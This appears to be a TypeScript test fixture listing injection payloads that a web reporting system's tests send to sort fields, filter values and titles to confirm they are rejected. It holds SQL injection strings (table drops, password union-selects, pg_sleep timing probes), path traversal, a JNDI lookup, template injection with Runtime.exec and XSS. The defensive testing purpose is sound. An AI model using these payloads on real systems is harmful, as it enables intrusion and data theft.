/**
 * The public injection payloads of this family of systems (online reports and forms that ran SQL and
 * templates written in the browser), sent by the online development tests to every place a client names
 * something: the sort column and order, query conditions, field names, aggregation fields, titles.
 * Every one must be refused (or taken as a plain value) with nothing leaked and no delay. Payloads that
 * would sleep sleep for 30 s, so a payload that ran makes its test time out.
 */

/** For a sort column, a field name, a group-by or a dictionary code. */
export const IDENTIFIER_PAYLOADS = [
  'id;drop table sys_user',
  'id desc; select pg_sleep(30)--',
  '(select pg_sleep(30))',
  'case when (select count(*) from sys_user)>0 then id else created_at end',
  'updatexml(1,concat(0x7e,(select user())),1)',
  'extractvalue(1,concat(0x7e,version()))',
  '"id"',
  'tenant_id',
  'password',
  'data->>\'x\'',
  '1',
  'id,(select password from sys_user limit 1)',
  '__proto__',
  'constructor',
  'toString',
  '../../etc/passwd',
  'id/**/or/**/1=1',
];

/** For a sort order. */
export const ORDER_PAYLOADS = ['asc;select pg_sleep(30)', 'desc nulls first', 'ASC,(select 1)', '1', 'random()', 'asc--'];

/** For a query condition's value: must be taken as the value it is, never as SQL. */
export const VALUE_PAYLOADS = [
  "' or '1'='1",
  "' or 1=1--",
  "1' and pg_sleep(30) is null--",
  "'; update sys_user set status = 2; --",
  "x' union select password, username from sys_user--",
  '%',
  '_',
  '\\',
  "1) or (1=1",
  '${7*7}',
  '{{7*7}}',
  '#{7*7}',
  '<%= 7*7 %>',
  '${jndi:ldap://example.invalid/a}',
];

/** For a title or any text an engine might render: must come back as written, never evaluated. */
export const TEMPLATE_PAYLOADS = ['{{7*7}}', '${7*7}', '<%= 7*7 %>', '#{7*7}', '${T(java.lang.Runtime).getRuntime().exec("id")}', '<script>alert(1)</script>', '{{constructor.constructor("return 1")()}}'];
